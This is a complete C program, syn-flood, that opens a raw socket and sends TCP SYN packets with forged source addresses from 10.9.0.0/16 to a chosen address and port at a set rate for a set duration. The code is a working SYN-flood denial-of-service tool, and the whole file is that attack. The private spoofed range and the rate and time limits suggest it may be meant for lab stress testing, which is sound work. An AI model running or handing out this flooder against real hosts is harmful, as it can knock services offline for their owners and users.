/*
 * syn-flood ADDRESS PORT PER-SECOND SECONDS: TCP SYNs from addresses that do not
 * answer, all of 10.9.1.0/24 to 10.9.254.0/24. Needs the right to raw sockets.
 */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

static uint16_t
sum(const void *data, size_t len, uint32_t start)
{
	const uint16_t *p = data;

	for (; len > 1; len -= 2)
		start += *p++;
	start = (start >> 16) + (start & 0xffff);
	return (uint16_t)~((start >> 16) + start);
}

static double
now(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

int
main(int argc, char **argv)
{
	struct {
		struct iphdr ip;
		struct tcphdr tcp;
	} packet;
	struct {
		uint32_t from, to;
		uint8_t zero, protocol;
		uint16_t length;
		struct tcphdr tcp;
	} pseudo;
	struct sockaddr_in to = { .sin_family = AF_INET };
	double start = now(), seconds;
	long rate, sent = 0;
	int s;

	if (argc != 5)
		return 2;
	rate = atol(argv[3]);
	seconds = atof(argv[4]);
	s = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	if (s < 0 || inet_pton(AF_INET, argv[1], &to.sin_addr) != 1) {
		perror("syn-flood");
		return 1;
	}
	while (now() - start < seconds) {
		if ((double)sent > (now() - start) * (double)rate) {
			usleep(1000);
			continue;
		}
		memset(&packet, 0, sizeof(packet));
		packet.ip.version = 4;
		packet.ip.ihl = 5;
		packet.ip.tot_len = htons(sizeof(packet));
		packet.ip.ttl = 64;
		packet.ip.protocol = IPPROTO_TCP;
		packet.ip.saddr = htonl(0x0a090000U | (uint32_t)(1 +
		    random() % 254) << 8 | (uint32_t)(random() % 256));
		packet.ip.daddr = to.sin_addr.s_addr;
		packet.tcp.source = (uint16_t)random();
		packet.tcp.dest = htons((uint16_t)atoi(argv[2]));
		packet.tcp.seq = (uint32_t)random();
		packet.tcp.doff = 5;
		packet.tcp.syn = 1;
		packet.tcp.window = htons(1024);
		memset(&pseudo, 0, sizeof(pseudo));
		pseudo.from = packet.ip.saddr;
		pseudo.to = packet.ip.daddr;
		pseudo.protocol = IPPROTO_TCP;
		pseudo.length = htons(sizeof(packet.tcp));
		pseudo.tcp = packet.tcp;
		packet.tcp.check = sum(&pseudo, sizeof(pseudo), 0);
		if (sendto(s, &packet, sizeof(packet), 0,
		    (struct sockaddr *)&to, sizeof(to)) > 0)
			sent++;
	}
	printf("%ld SYNs\n", sent);
	return 0;
}
